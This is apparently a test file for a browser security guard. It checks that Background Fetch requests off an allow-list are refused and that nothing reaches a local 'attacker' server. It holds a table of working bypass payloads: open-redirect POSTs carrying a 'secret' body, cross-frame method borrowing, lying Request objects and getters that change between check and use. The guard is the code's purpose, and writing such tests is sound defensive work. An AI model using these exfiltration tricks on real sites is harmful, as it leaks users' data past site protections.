// Background Fetch for real: what it does with no guard, and that with one it sends nothing off its own list.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, beforeEach, suite, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { packageScript } from "../../support/package-scripts.mjs";
import { listen, shut } from "../../support/servers.mjs";

const SETTLE_MS = 700;
const FILES = {
  "/sw.js": ["text/javascript", `addEventListener("activate", (event) => event.waitUntil(clients.claim()));`],
  "/": [
    "text/html; charset=utf-8",
    `<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:,"></head><body>
     <script type="module">import * as cordon from "/guard.js"; window.cordon = cordon;</script></body></html>`,
  ],
};

/** Keeps what is asked of it: the path, and the body. */
async function keep(answer) {
  const asked = [];
  const server = createServer(async (request, response) => {
    const chunks = [];
    for await (const chunk of request) chunks.push(chunk);
    asked.push([request.method, request.url, Buffer.concat(chunks).toString()]);
    answer(new URL(request.url, "http://here"), response);
  });
  return { ...(await listen(server)), asked };
}

const answerOwn = ({ pathname, searchParams }, response) => {
  if (pathname === "/to")
    return response.writeHead(307, { Location: searchParams.get("url"), "Cache-Control": "no-store" }).end();
  if (pathname === "/slow") return setTimeout(() => response.end("slow"), 2_000);
  const script = packageScript(pathname);
  const [type, body] = script ? ["text/javascript", script] : (FILES[pathname] ?? ["application/octet-stream", "x"]);
  response.writeHead(200, { "Content-Type": type, "Cache-Control": "no-store" }).end(body);
};
const answerAttacker = (_, response) =>
  response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" }).end("his");

/** Runs in the page: what became of it, or the name of what it threw. The first call of a profile can fail. */
const started = (source) => `async (id, own, evil, via) => {
  const { backgroundFetch } = window.registration;
  const changing = (first, then) => { let reads = 0; return () => (reads++ === 0 ? first : then); };
  const end = async (fetched) => {
    for (let at = 0; at < 600 && fetched.result === ""; at++) await new Promise((resolve) => setTimeout(resolve, 50));
    return fetched.result || "no end";
  };
  try {
    return await end(await (async () => { ${source} })());
  } catch (error) {
    return error.name;
  }
}`;

/** Each would have the body, or an icon, go to the attacker; `pack` alone is listed. */
const REFUSED = {
  "a URL of his": `return backgroundFetch.fetch(id, evil)`,
  "a URL of the site's that is not listed": `return backgroundFetch.fetch(id, own + "/other")`,
  "a redirect of the site's, which posts": `return backgroundFetch.fetch(id, new Request(via, { method: "POST", body: "secret" }))`,
  "one that says redirects are errors": `return backgroundFetch.fetch(id, new Request(via, { redirect: "error", method: "POST", body: "secret" }))`,
  "one of a list": `return backgroundFetch.fetch(id, [own + "/pack", via])`,
  "one of a list that is no array": `return backgroundFetch.fetch(id, new Set([own + "/pack", new Request(via)]))`,
  "a request that lies": `return backgroundFetch.fetch(id, new (class extends Request { get url() { return own + "/pack"; } })(via))`,
  "a request of a frame": `
    const f = document.body.appendChild(document.createElement("iframe"));
    return backgroundFetch.fetch(id, new f.contentWindow.Request(via))`,
  "the method of a frame, with a list": `
    const f = document.body.appendChild(document.createElement("iframe"));
    return f.contentWindow.BackgroundFetchManager.prototype.fetch.call(backgroundFetch, id, [via])`,
  "the method of a frame": `
    const f = document.body.appendChild(document.createElement("iframe"));
    return f.contentWindow.BackgroundFetchManager.prototype.fetch.call(backgroundFetch, id, via)`,
  "the method of a frame by its index": `
    document.body.appendChild(document.createElement("iframe"));
    return window[0].BackgroundFetchManager.prototype.fetch.call(backgroundFetch, id, via)`,
  "the method of the prototype": `return BackgroundFetchManager.prototype.fetch.apply(backgroundFetch, { length: 2, 0: id, 1: via })`,
  "an icon of his": `return backgroundFetch.fetch(id, own + "/pack", { icons: [{ src: evil }] })`,
  "an icon that changes": `
    const src = changing(evil, own + "/pack");
    return backgroundFetch.fetch(id, own + "/pack", { icons: [{ get src() { return src(); } }] })`,
  "a string that changes": `return backgroundFetch.fetch(id, { toString: changing(via, own + "/pack") })`,
  "an element that changes": `
    const list = []; Object.defineProperty(list, 0, { get: changing(via, own + "/pack") });
    return backgroundFetch.fetch(id, list)`,
};

/** Each is read once, as the listed URL, and would be his the second time. */
const SNAPSHOT = {
  "a string": `return backgroundFetch.fetch(id, { toString: changing(own + "/pack", via) })`,
  "a primitive": `return backgroundFetch.fetch(id, { [Symbol.toPrimitive]: changing(own + "/pack", via) })`,
  "an element": `
    const list = []; Object.defineProperty(list, 0, { get: changing(own + "/pack", via) });
    return backgroundFetch.fetch(id, list)`,
  "an iterable": `
    let turns = 0;
    return backgroundFetch.fetch(id, { *[Symbol.iterator]() { yield turns++ ? via : own + "/pack"; } })`,
  "a URL that a later element moves": `
    const url = new URL(own + "/pack");
    return backgroundFetch.fetch(id, { *[Symbol.iterator]() { yield url; url.href = via; } })`,
  "a request whose getter changes": `
    const request = new Request(own + "/pack");
    Object.defineProperty(request, "url", { get: changing(own + "/pack", via) });
    return backgroundFetch.fetch(id, request)`,
  "an icon": `
    const src = changing(own + "/pack", evil);
    return backgroundFetch.fetch(id, own + "/pack", { icons: [{ get src() { return src(); }, sizes: "1x1", type: "image/png" }] })`,
};

export function backgroundFetches(Browser) {
  suite(`Background Fetch under the guard in ${Browser.engine}`, () => {
    let own, attacker, browser;

    before(async () => {
      own = await keep(answerOwn);
      attacker = await keep(answerAttacker);
      browser = await Browser.launch();
      await open();
      // The first calls of a profile can fail.
      for (let tries = 0; (await begin(`return backgroundFetch.fetch(id, own + "/pack")`)) !== "success"; tries++) {
        assert.ok(tries < 20, "Background Fetch works here");
        await sleep(250);
      }
    });

    after(() => shut(browser, own, attacker));

    beforeEach(() => {
      own.asked.length = 0;
      attacker.asked.length = 0;
    });

    async function open(policy) {
      await browser.open(`${own.origin}/`);
      await browser.until(() => window.cordon !== undefined, [], "the package");
      await browser.run(async () => {
        window.registration = await navigator.serviceWorker.register("/sw.js");
        await navigator.serviceWorker.ready;
      });
      if (policy) await browser.run((policy) => void (window.guard = window.cordon.installGuard(policy)), policy);
      attacker.asked.length = 0;
    }

    const evil = () => `${attacker.origin}/x`;
    const via = () => `${own.origin}/to?url=${encodeURIComponent(evil())}`;
    let begun = 0;
    const begin = (source) => browser.run(started(source), `fetch-${begun++}`, own.origin, evil(), via());
    const listed = () => ({ connect: ["'self'"], backgroundFetch: [`${own.origin}/pack`] });

    test("with no guard, a redirect of the site's delivers the body to the attacker", async () => {
      await open();
      await begin(REFUSED["a redirect of the site's, which posts"]);
      assert.deepEqual(
        attacker.asked.filter(([method]) => method === "POST"),
        [["POST", "/x", "secret"]],
      );
    });

    test("with no guard, it does although the request says that redirects are errors", async () => {
      await open();
      await begin(REFUSED["one that says redirects are errors"]);
      assert.deepEqual(
        attacker.asked.filter(([method]) => method === "POST"),
        [["POST", "/x", "secret"]],
      );
    });

    test("with no guard, each reaches the attacker", async (t) => {
      // An unlisted URL of the site's own never meant to.
      const { "a URL of the site's that is not listed": none, ...others } = REFUSED;
      void none;
      for (const [name, source] of Object.entries(others)) {
        await t.test(name, async (t) => {
          await open();
          own.asked.length = 0;
          await begin(source);
          if (/^an icon/.test(name) && attacker.asked.length === 0) return t.skip("headless, no icon is loaded");
          assert.ok(
            attacker.asked.length > 0 || own.asked.some(([, url]) => url.startsWith("/pack")),
            "something is sent",
          );
          if (!/changes$/.test(name)) assert.ok(attacker.asked.length > 0, "it reaches the attacker");
        });
      }
    });

    test("unlisted, each is refused and nothing is sent", async (t) => {
      for (const [name, source] of Object.entries(REFUSED)) {
        await t.test(name, async () => {
          await open(listed());
          own.asked.length = 0;
          assert.equal(await begin(source), "TypeError");
          await sleep(SETTLE_MS);
          assert.deepEqual(attacker.asked, []);
          assert.deepEqual(
            own.asked.filter(([, url]) => /^\/(to|pack|other)/.test(url)),
            [],
          );
          const said = await browser.run(() => window.guard.violations.map(({ api }) => api));
          assert.ok(said.includes("backgroundFetch"), said.join());
        });
      }
    });

    test("without a list, the policy's other allowances do not count", async () => {
      await open({ connect: ["'self'"] });
      assert.equal(await begin(`return backgroundFetch.fetch(id, own + "/pack")`), "TypeError");
      assert.deepEqual(
        own.asked.filter(([, url]) => url === "/pack"),
        [],
      );
    });

    test("what is listed is fetched", async () => {
      await open(listed());
      assert.equal(
        await begin(`return backgroundFetch.fetch(id, [own + "/pack"], { title: "x", downloadTotal: 1 })`),
        "success",
      );
      assert.ok(own.asked.some(([, url]) => url === "/pack"));
    });

    test("everything is read once: what was judged is what is sent", async (t) => {
      for (const [name, source] of Object.entries(SNAPSHOT)) {
        await t.test(name, async () => {
          await open(listed());
          own.asked.length = 0;
          assert.equal(await begin(source), "success");
          await sleep(SETTLE_MS / 2);
          assert.deepEqual(attacker.asked, []);
          assert.ok(own.asked.some(([, url]) => url === "/pack"));
          assert.ok(!own.asked.some(([, url]) => url.startsWith("/to")));
        });
      }
    });
  });
}
